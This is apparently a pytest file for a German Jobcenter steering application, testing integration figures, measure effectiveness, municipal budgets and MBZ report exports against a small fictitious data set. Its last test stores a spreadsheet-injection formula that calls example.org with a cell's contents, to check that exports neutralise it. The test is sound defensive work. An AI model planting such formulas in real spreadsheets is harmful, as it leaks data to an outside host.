"""Steering on a small hand-checked data set imported through the exchange format:
K2 and K3 from the database, measure effectiveness, municipal budgets per city, the MBZ
as JSON, PDF and XLSX, the command, the pages and the all-or-nothing import checks."""

from __future__ import annotations

import io
import json
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from pypdf import PdfReader

from lotse.core.roles import Role
from lotse.exchange.services import import_records
from lotse.measures.models import Integration, Participation
from lotse.measures.report import effectiveness
from lotse.municipal.report import budget_use, city_table
from lotse.targets.figures import key_figures
from lotse.targets.mbz import mbz_report
from tests.factories import rows

MONTH = date(2026, 6, 1)


FILES = {
    "districts.csv": rows(
        "districts.csv", ("DA", "Altstadt", 1000, "5.0", "Altheim"), ("DB", "Berg", 1000, "5.0", "Bergdorf")
    ),
    "persons.csv": rows(
        "persons.csv",
        ("Q0", "TestQ0", "Kim", "1980-01-01", "x", "DA"),
        ("Q1", "TestQ1", "Kim", "1985-01-01", "x", "DA"),
        ("Q2", "TestQ2", "Kim", "2003-01-01", "x", "DB"),  # under 25 in 2026
        ("Q3", "TestQ3", "Kim", "1970-01-01", "x", "DB"),
    ),
    "benefit_periods.csv": rows(
        "benefit_periods.csv",
        ("Q0", "2024-01-01"),
        ("Q1", "2025-01-01", "2025-12-31"),
        ("Q2", "2026-01-01"),
        # 638 days up to 30.06.2026: a long-term recipient on that day, and not a day earlier
        ("Q3", "2024-09-30"),
    ),
    "attributes.csv": rows(
        "attributes.csv",
        ("Q0", "profile", "support", "2024-01-01", "2026-03-31"),
        ("Q0", "profile", "activation", "2026-04-01"),
    ),
    "measures.csv": rows("measures.csv", ("M1", "Coaching", "coaching", "Träger A", "all", 10)),
    "participations.csv": rows(
        "participations.csv",
        ("A1", "Q0", "M1", "2025-06-01", "2025-08-31", "completed"),
        ("A2", "Q1", "M1", "2025-06-01", "2025-08-31", "completed"),
        ("A3", "Q3", "M1", "2026-05-01"),
    ),
    "integrations.csv": rows(
        "integrations.csv",
        ("I1", "Q0", "2025-09-03", "employment", "2025-09-19"),
        # the same person again in the same month: one integration for K2
        ("I2", "Q0", "2025-09-20", "apprenticeship"),
        # publicly funded: recorded, never counted
        ("I3", "Q1", "2025-11-01", "publicly_funded", "2025-12-31"),
        ("I4", "Q1", "2026-01-01", "employment"),
        ("I5", "Q2", "2026-06-30", "employment"),
    ),
    "municipal_services.csv": rows(
        "municipal_services.csv",
        ("debt", 2026, "Schuldnerberatung", "1000"),
        ("childcare", 2026, "Kinderbetreuung", "300"),
    ),
    "referrals.csv": rows(
        "referrals.csv",
        ("R1", "Q0", "debt", "2026-02-01", "400"),
        ("R2", "Q0", "debt", "2026-03-01", "250"),
        ("R3", "Q2", "debt", "2026-03-01", "100"),
        ("R4", "Q3", "childcare", "2026-05-01", "350"),
    ),
    "targets.csv": rows(
        "targets.csv",
        ("ZV 2026", 2026, 1, "Integrationsquote", "k2_integration_rate", "20.6", "value", "at_least", "ba"),
        ("ZV 2026", 2026, 2, "LZB-Bestand", "k3_long_term_stock", "1", "value", "at_most", "ba"),
        (
            "ZV 2026",
            2026,
            3,
            "Integrationen U25",
            "integrations_u25",
            "5",
            "change_vs_previous_year_pct",
            "at_least",
            "ba",
        ),
        (
            "ZV 2026",
            2026,
            4,
            "Leistungen zum Lebensunterhalt",
            "k1_subsistence",
            "120000",
            "value",
            "monitor",
            "ba",
        ),
    ),
    "monthly_figures.csv": rows(
        "monthly_figures.csv",
        *[(f"2025-{m:02d}", "k1_subsistence", "9000") for m in range(1, 13)],
        *[(f"2026-{m:02d}", "k1_subsistence", "9900") for m in range(1, 7)],
    ),
}


@pytest.fixture
def steering(db):
    from tests.conftest import empty_domain_tables

    empty_domain_tables()
    result = import_records(files=FILES)
    assert result.ok, result.errors
    return result


def test_k2_and_k3_from_the_database(steering):
    figures = key_figures(MONTH)
    # Twelve month ends July 2025 – June 2026: Q0 all, Q1 July–December, Q2 January–June, Q3 all.
    assert figures.k2.count == 3  # Q0 in September (two starts, one month), Q1 January, Q2 June
    assert figures.k2.average_stock == 3.0
    assert figures.k2.percent == 100.0
    assert figures.long_term == 2  # Q0 (since 2024) and Q3 (exactly 638 days)
    assert key_figures(date(2026, 5, 1)).long_term == 1  # on 31 May Q3 has 608 days
    assert figures.long_term_activated == 1  # Q3 is in a measure on 30 June
    assert figures.integrations_u25.now == 1  # Q2 (23) on 30 June
    assert figures.k1.change == 10.0  # 9,900 against 9,000
    assert figures.k1.year_to_date == 6 * 9900
    # The target groups are kept on the rows, derived from the facts on the start day.
    assert Integration.objects.get(external_id="I5").u25
    assert not Integration.objects.get(external_id="I4").u25


def test_measure_effectiveness_at_the_end_and_six_months_later(steering):
    report = effectiveness(date(2025, 1, 1), date(2026, 6, 30))
    (row,) = report.measures
    assert (row.effect.exits, row.effect.at_end, row.effect.judged, row.effect.after_6m) == (2, 1, 2, 2)
    # Q0 starts a job on 3 September (within a month of the exit) and is still in the
    # apprenticeship on 28 February; Q1's publicly funded job does not count, but the
    # January job does: in work six months after the exit, not at its end.
    assert (row.effect.share_at_end, row.effect.share_6m) == (50.0, 100.0)
    assert Participation.objects.filter(exited__isnull=True).count() == 1  # Q3: still in it, not counted


def test_budget_use_and_the_per_city_table(steering):
    use = {u.service.code: u for u in budget_use(2026, date(2026, 12, 31))}
    assert (use["debt"].used, use["debt"].left, use["debt"].share) == (750, 250, 75.0)
    assert (use["debt"].referrals, use["debt"].clients) == (3, 2)
    assert use["childcare"].left == -50  # overspent: shown, not hidden
    table = city_table(2026, date(2026, 12, 31))
    assert table == [
        # Q0 moved from "support" to "activation" after the referral, and Q0 is counted once
        {"city": "Altheim", "service": "Schuldnerberatung", "clients": 1, "closer": 1, "integrated": 0},
        {"city": "Bergdorf", "service": "Kinderbetreuung", "clients": 1, "closer": 0, "integrated": 0},
        # Q2 started a job on 30 June, after the referral in March
        {"city": "Bergdorf", "service": "Schuldnerberatung", "clients": 1, "closer": 0, "integrated": 1},
    ]


def test_mbz_plan_against_actual_and_its_exports(steering, tmp_path):
    report = mbz_report(MONTH)
    rows = {r.target.position: r for r in report.rows}
    assert (rows[1].actual, rows[1].achieved) == (100.0, True)
    assert (rows[2].actual, rows[2].achieved) == (2, False)  # 2 long-term recipients, plan at most 1
    assert rows[3].previous == 0 and rows[3].actual == 1
    assert rows[4].plan_to_date == 60000 and rows[4].actual == 59400 and rows[4].achieved is None

    call_command(
        "report", "mbz", "--month", "2026-06", "--format", "pdf", "--output", str(tmp_path / "m.pdf")
    )
    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "m.pdf").pages)
    assert "Integrationsquote" in text and "LZB-Bestand" in text
    assert "Monatsbericht Zielerreichung (MBZ) 06/2026" in text  # the command speaks German
    assert "Plan bis dato" in text  # the charts carry their plan line

    call_command(
        "report", "mbz", "--month", "2026-06", "--format", "xlsx", "--output", str(tmp_path / "m.xlsx")
    )
    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[1]  # after the title block
    assert sheet["G1"].value == "Ist"
    values = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert values["Integrationsquote"][6] == 100.0  # a number, not text
    assert values["LZB-Bestand"][6] == 2

    out = io.StringIO()
    call_command("report", "mbz", "--month", "2026-06", "--format", "json", stdout=out)
    data = json.loads(out.getvalue())
    figures = {row["code"]: row["value"] for row in data["tables"]["key_figures"]["rows"]}
    assert figures["k2_integration_rate.percent"] == 100.0


def test_import_refuses_a_referral_without_budget_and_writes_nothing(db):
    from lotse.measures.models import Measure

    files = {
        "persons.csv": rows("persons.csv", ("Z1", "TestZ1", "Kim", "1990-01-01", "x")),
        "measures.csv": FILES["measures.csv"],
        "referrals.csv": rows("referrals.csv", ("R9", "Z1", "debt", "2026-02-01", "10")),
        "monthly_figures.csv": rows("monthly_figures.csv", ("2026-13", "k1_subsistence", "1")),
    }
    result = import_records(files=files)
    messages = [str(e) for e in result.errors]
    # read_records numbers the records from 1 (the API); a CSV file names its line.
    assert any("referrals.csv:1: service_code" in m and "no budget for 2026" in m for m in messages), messages
    assert any("monthly_figures.csv:1: month" in m for m in messages), messages
    assert not Measure.objects.filter(external_id="M1").exists()


def test_steering_pages_for_controlling_in_german(steering, client, make_user):
    from lotse.core.roles import ensure_role_groups

    ensure_role_groups()
    client.force_login(make_user(Role.CONTROLLING, "ctl"))
    page = client.get("/steering/mbz/?month=2026-06")
    assert page.status_code == 200
    assert "Monatlicher Bericht zur Zielerreichung" in page.content.decode()
    target = mbz_report(MONTH).rows[0].target
    client.post(f"/steering/mbz/targets/{target.pk}/comment/", {"month": "2026-06", "text": "Gut."})
    client.post(
        f"/steering/mbz/targets/{target.pk}/action/",
        {"month": "2026-06", "what": "Jobmesse", "owner": "Teamleitung", "due": "2026-07-31"},
    )
    row = mbz_report(MONTH).rows[0]
    assert row.comment.text == "Gut." and [a.what for a in row.actions] == ["Jobmesse"]
    assert client.get("/steering/measures/?as_of=2026-06-30").status_code == 200
    budgets = client.get("/steering/municipal/?year=2026&as_of=2026-12-31").content.decode()
    assert "Altheim" in budgets and "Bergdorf" in budgets


def test_steering_figures_of_an_empty_jobcenter(db):
    """A Jobcenter without any measure, integration or budget gets empty reports, not errors."""
    from tests.conftest import empty_domain_tables

    empty_domain_tables()
    report = effectiveness(date(2025, 1, 1), date(2026, 6, 30))
    assert report.measures == [] and report.total.exits == 0
    assert budget_use(2026, date(2026, 6, 30)) == [] and city_table(2026, date(2026, 6, 30)) == []
    assert key_figures(MONTH).k2.percent is None
    assert mbz_report(MONTH).rows == []


@pytest.mark.django_db
def test_the_administrator_makes_this_years_agreement_from_the_template(client, make_user):
    """The preset (2014) copied by the admin action becomes this year's agreement, targets
    and all; copying it again is refused by name, and the MBZ then uses the copy."""
    from lotse.core.clock import today
    from lotse.core.roles import ensure_role_groups
    from lotse.targets.mbz import agreement_for
    from lotse.targets.models import TargetAgreement

    ensure_role_groups()
    admin = make_user(Role.ADMINISTRATOR)
    admin.is_staff = True
    admin.save()
    client.force_login(admin)
    preset = TargetAgreement.objects.get(is_preset=True)
    year = today().year
    data = {"action": "copy_to_next_year", "_selected_action": [preset.pk]}
    assert client.post("/admin/targets/targetagreement/", data).status_code == 302
    copy = TargetAgreement.objects.get(year=year, is_preset=False)
    assert str(year) in copy.name and copy.targets.count() == preset.targets.count() == 8
    assert agreement_for(year) == copy
    client.post("/admin/targets/targetagreement/", data)
    assert TargetAgreement.objects.filter(year=year).count() == 1
    for page in (
        "/admin/measures/measure/add/",
        "/admin/municipal/servicebudget/add/",
        f"/admin/targets/target/{copy.targets.first().pk}/change/",
    ):
        assert client.get(page).status_code == 200


def test_the_mettmann_template_follows_the_document(db):
    """Contact density is Mettmann's own rule (2 a year, 6 for single households), not a
    6-month share; it, the agreement quota and the housing costs are municipal targets
    (section V), outside the BA's follow-up process, which refuses a comment on them."""
    from lotse.core.errors import Refused
    from lotse.targets import services
    from lotse.targets.models import TargetAgreement

    preset = TargetAgreement.objects.get(is_preset=True)
    targets = {t.figure: t for t in preset.targets.all()}
    assert "contact_density" not in targets
    assert {f: t.owner for f, t in targets.items() if t.owner == "municipality"} == {
        "housing_costs": "municipality",
        "agreement_quota": "municipality",
        "contact_rules_compliance": "municipality",
    }
    assert (targets["housing_costs"].basis, targets["housing_costs"].direction) == (
        "change_vs_previous_year_pct",
        "at_most",
    )
    assert all(t.followed_up for t in targets.values() if t.owner == "ba")
    with pytest.raises(Refused):
        services.comment_save(
            user=None, target=targets["agreement_quota"], month=MONTH, text="Kommentar", version=None
        )


def test_housing_costs_and_the_own_contact_rules_as_targets(steering):
    """KdU like K1: the sum from January against the same months a year earlier (+0 %: not
    above it); the own-rule share from the contact-density evaluation of the month's end."""
    from lotse.evaluation.contact_density import evaluate_contact_density

    imported = import_records(
        files={
            "targets.csv": rows(
                "targets.csv",
                (
                    "ZV 2026 kommunal",
                    2026,
                    1,
                    "KdU",
                    "housing_costs",
                    "0",
                    "change_vs_previous_year_pct",
                    "at_most",
                    "municipality",
                ),
                (
                    "ZV 2026 kommunal",
                    2026,
                    2,
                    "Kontaktdichte",
                    "contact_rules_compliance",
                    "100",
                    "value",
                    "at_least",
                    "municipality",
                ),
            ),
            "monthly_figures.csv": rows(
                "monthly_figures.csv",
                *[(f"2025-{m:02d}", "housing_costs", "1000") for m in range(1, 13)],
                *[(f"2026-{m:02d}", "housing_costs", "990") for m in range(1, 7)],
            ),
        }
    )
    assert imported.ok, imported.errors
    housing, own = mbz_report(MONTH).rows
    assert (housing.actual, housing.previous, housing.plan_to_date, housing.achieved) == (
        5940,
        6000,
        6000,
        True,
    )
    assert housing.unit == "€" and not housing.target.followed_up
    expected = evaluate_contact_density(date(2026, 6, 30), by=(), series_months=1).total.share_compliant
    assert own.actual == expected and own.plan_to_date == 100 and own.achieved is (expected >= 100)


def test_an_mbz_comment_a_spreadsheet_would_run_stays_text_in_the_xlsx(steering):
    from lotse.reports.definitions import mbz
    from lotse.reports.definitions.base import Params
    from lotse.reports.formats import to_csv, to_xlsx
    from lotse.targets import services

    target = mbz_report(MONTH).rows[0].target
    attack = '=HYPERLINK("http://example.org/?"&A1,"Details")'
    services.comment_save(user=None, target=target, month=MONTH, text=attack, version=None)
    report = mbz.build(Params(as_of=date(2026, 6, 30), month=MONTH))
    sheet = load_workbook(io.BytesIO(to_xlsx(report))).worksheets[1]
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == attack]
    assert cell.data_type == "s" and cell.quotePrefix
    assert f"'{attack}" in to_csv(report).decode("utf-8-sig").replace('""', '"')  # and in the CSV
